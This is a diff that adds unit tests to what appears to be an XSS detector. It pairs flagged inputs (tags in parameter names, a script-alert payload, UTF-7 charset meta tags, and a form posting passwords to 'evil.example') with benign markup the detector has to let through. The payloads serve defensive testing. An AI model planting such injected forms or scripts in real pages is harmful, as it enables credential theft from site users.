@@ -145,3 +145,52 @@ describe('sinks handed to a function that calls them', () => {
     { value: 'use Reflect.apply(fn, thisArg, args) instead', below: 2 },
   ]);
 });
+
+describe('markup in parameter names, and markup that changes the page around it (strict mode)', () => {
+  checkAttacks(
+    detectXss,
+    'xss',
+    [
+      // names are the application's vocabulary: a tag or a comment delimiter in one is planted
+      { value: 'x=<a href="test"', location: 'body_name', severity: 1, rule: 'xss.markup_name' },
+      { value: '-->', location: 'body_name', severity: 1, rule: 'xss.markup_name' },
+      { value: '-->', location: 'cookie_name', severity: 1, rule: 'xss.markup_name' },
+      { value: 'q<!--', location: 'query_name', severity: 1 },
+      // a name that is a whole script tag is still judged at full strength
+      { value: '<script>alert(1)</script>', location: 'query_name', severity: 2 },
+      // a single value that re-sets the charset, or plants a form control
+      { value: '<meta charset="UTF-7">', severity: 1, rule: 'xss.page_markup' },
+      { value: '<meta http-equiv="content-type" content="text/html; charset=utf-7">', location: 'body', severity: 1 },
+      { value: '<input pattern="^a regex$">', location: 'body', severity: 1, rule: 'xss.page_markup' },
+      { value: '<form action="https://evil.example/collect"><input name="password" type="password">', severity: 1 },
+    ],
+    'query',
+  );
+  checkBenign(
+    detectXss,
+    [
+      // ordinary names: brackets, dots, a pointer arrow in a PHP-style name
+      { value: 'tax_input[post_tag]', location: 'body_name' },
+      { value: 'user.address.city', location: 'body_name' },
+      { value: 'a->b', location: 'query_name' },
+      { value: 'x<5', location: 'query_name' },
+      // `-->` in a value: prose arrows, and a CRS must-pass value
+      { value: 'step 1 --> step 2', location: 'body' },
+      { value: '-->', location: 'body' },
+      // markup that runs nothing, in a value: links and formatting people post
+      { value: '<a href="https://example.com/">docs</a>', location: 'body' },
+      { value: '<p><strong>Hello</strong></p>', location: 'body' },
+      { value: '<input>', location: 'body' },
+      // a site-verification tag pasted into a theme's header field, a button in a custom HTML block
+      { value: '<meta name="google-site-verification" content="abc123XYZ">', location: 'body' },
+      { value: '<button class="btn btn-primary" type="button">Show more</button>', location: 'body' },
+      // a whole HTML page in a code post is a document: its head and form are content
+      {
+        value:
+          'Here is my page, the form does not submit and I do not know why:\n\n<!DOCTYPE html>\n<html>\n<head>\n<meta charset="UTF-8">\n<title>Signup</title>\n</head>\n<body>\n<form method="post">\n<input type="email" name="email">\n<button type="submit">Join</button>\n</form>\n</body>\n</html>\n\nAny idea what I am missing? Thanks.',
+        location: 'body',
+      },
+    ],
+    'query',
+  );
+});
